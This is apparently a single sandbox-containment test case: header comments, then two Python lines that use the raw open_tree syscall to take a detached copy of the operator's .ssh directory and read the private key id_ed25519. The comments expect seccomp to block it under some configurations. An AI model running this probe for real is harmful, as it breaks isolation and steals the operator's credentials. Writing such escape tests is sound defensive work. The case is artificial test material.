# title: takes a detached copy of the operator's directories
# harm: learns
# B: seccomp refuses open_tree
# C: seccomp refuses open_tree; the home is not there
tree = syscall(428, -100, (OP_HOME + '/.ssh').encode(), 1)
print(os.read(os.open('id_ed25519', os.O_RDONLY, dir_fd=tree), 100))
